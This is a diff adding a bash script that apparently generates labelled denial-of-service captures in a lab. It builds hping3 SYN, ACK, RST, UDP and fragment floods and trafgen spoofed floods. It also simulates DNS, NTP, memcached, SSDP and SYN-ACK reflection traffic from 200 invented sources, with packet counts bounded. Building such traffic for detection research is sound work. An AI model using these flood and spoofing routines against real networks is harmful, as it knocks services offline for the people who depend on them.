@@ -1,0 +1,94 @@
+# SPDX-License-Identifier: BSD-2-Clause
+# shellcheck shell=bash
+# Floods. hping3 sends from the attacker's address; trafgen sends what hping3 cannot: both families, options of real systems,
+# invented addresses that come from the seed. kind_NAME makes it; see capture.sh.
+
+kind_flood_syn() { flood_hping --syn --destport "$HTTP_PORT"; }
+kind_flood_ack() { flood_hping --ack --destport "$HTTP_PORT"; }
+kind_flood_rst() { flood_hping --rst --destport "$HTTP_PORT"; }
+kind_flood_udp() { flood_hping --udp --destport 53 --data 40; }
+kind_flood_fragment() { flood_hping --udp --frag --mtu 16 --data 48 --destport 7777; }
+
+SYN_OPTIONS='2, 4, c16(1460), 4, 2, 8, 10, drnd(4), c32(0), 1, 3, 3, 7'
+kind_flood_syn_options() { flood_trafgen own "$(tcp_header "$HTTP_PORT" syn 10)" "$SYN_OPTIONS"; }
+kind_flood_syn_spoofed() { flood_trafgen spoofed "$(tcp_header "$HTTP_PORT" syn 5)"; }
+kind_flood_syn_mimic() { flood_trafgen spoofed "$(tcp_header "$HTTP_PORT" syn 10)" "$SYN_OPTIONS"; }
+kind_flood_ack_spoofed() { flood_trafgen spoofed "$(tcp_header "$HTTP_PORT" 'ack, aseq=drnd()' 5)"; }
+kind_flood_synack_spoofed() { flood_trafgen spoofed "$(tcp_header "$HTTP_PORT" 'syn, ack, aseq=drnd()' 5)"; }
+kind_flood_udp_spoofed() { flood_trafgen spoofed "udp(sp=drnd(1024, 65535), dp=$HTTP_PORT)" 'drnd(32)'; }
+kind_flood_icmp() { flood_trafgen own "$(echo_header)" "fill(0x61, 32)"; }
+kind_flood_icmp_spoofed() { flood_trafgen spoofed "$(echo_header)" "fill(0x61, 32)"; }
+
+# Answers to questions that the server never asked, from 200 reflectors.
+kind_reflect_dns() { flood_trafgen reflected 'udp(sp=53, dp=drnd(1024, 65535))' 'drnd(2), 0x81, 0x80, fill(0x41, 1180)'; }
+kind_reflect_ntp() { flood_trafgen reflected 'udp(sp=123, dp=drnd(1024, 65535))' '0xd7, 0, 3, 42, fill(0, 436)'; }
+kind_reflect_memcached() { flood_trafgen reflected 'udp(sp=11211, dp=drnd(1024, 65535))' 'drnd(2), c16(0), c16(1), fill(0x42, 1394)'; }
+kind_reflect_ssdp() { flood_trafgen reflected 'udp(sp=1900, dp=drnd(1024, 65535))' 'fill(0x48, 310)'; }
+kind_reflect_synack() {
+	flood_trafgen reflected 'tcp(sp=443, dp=drnd(1024, 65535), seq=drnd(), aseq=drnd(), syn, ack, win=65535, doff=6)' '2, 4, c16(1400)'
+}
+
+tcp_header() { echo "tcp(sp=drnd(1024, 65535), dp=$1, seq=drnd(), $2, win=64240, doff=$3)"; }
+
+# Echo requests, each with an id of its own.
+echo_header() { [[ $VARIANT == *6 ]] && echo 'icmp6(echorequest), drnd(2), c16(1)' || echo 'icmp4(type=8, id=drnd(), seq=1)'; }
+
+flood_hping() {
+	local rate
+	rate_pick rate
+	flood_bounds "$rate"
+	wicked
+	record
+	LONGEST=$FLOOD_SECONDS attacker hping3 --quiet --interval "u$((1000000 / rate))" --count "$FLOOD_PACKETS" "$@" "$TARGET"
+}
+
+flood_trafgen() { # own|spoofed|reflected, layer 4 header, what follows it
+	local rate more=()
+	rate_pick rate
+	flood_bounds "$rate"
+	flood_wicked "$1"
+	flood_frames "$@" >frames.trafgen
+	[[ $1 != reflected ]] || more=(--rand)
+	record
+	LONGEST=$FLOOD_SECONDS attacker trafgen --notouch-irq --no-sock-mem --cpus 1 --seed "$SEED" --dev eth0 --conf frames.trafgen \
+		--num "$FLOOD_PACKETS" --gap "$((1000000 / rate))us" "${more[@]}"
+}
+
+# Packets in all and seconds are bounded, whatever the rate.
+flood_bounds() {
+	local most=8000
+	[[ $VARIANT != thick ]] || most=20000
+	FLOOD_PACKETS=$(($1 * 12 < most ? $1 * 12 : most))
+	FLOOD_SECONDS=$((FLOOD_PACKETS / $1 + 4))
+}
+
+# Invented addresses of IPv6 are from anywhere, so that all of such a capture is wicked.
+flood_wicked() {
+	wicked
+	case $1:$VARIANT in
+	own:*) ;;
+	*6) WICKED= ;;
+	*) WICKED=100.0.0.0/8 ;;
+	esac
+}
+
+flood_frames() {
+	local i
+	case $1:$VARIANT in
+	own:*) flood_frame "$(at 201 "$ATTACKER")" "${@:2}" ;;
+	spoofed:*6) flood_frame 'drnd()' "${@:2}" ;;
+	spoofed:*) flood_frame 'drnd(0x64000000, 0x64ffffff)' "${@:2}" ;; # 100.0.0.0/8
+	reflected:*)
+		for i in {1..200}; do
+			[[ $VARIANT == *6 ]] && flood_frame "2001:db8:$((SEED % 9999))::$i" "${@:2}" ||
+				flood_frame "100.$((SEED % 256)).$((i * 91 % 256)).$i" "${@:2}"
+		done
+		;;
+	esac
+}
+
+flood_frame() { # source, layer 4 header, what follows it
+	local ip="ipv4(sa=$1, da=$TARGET, id=drnd(), ttl=64)" type=0x0800
+	[[ $VARIANT != *6 ]] || ip="ipv6(sa=$1, da=$TARGET, hl=64)" type=0x86dd
+	echo "{ eth(da=$(ns_mac server), sa=$(ns_mac attacker), type=$type), $ip, $2${3:+, $3} }"
+}
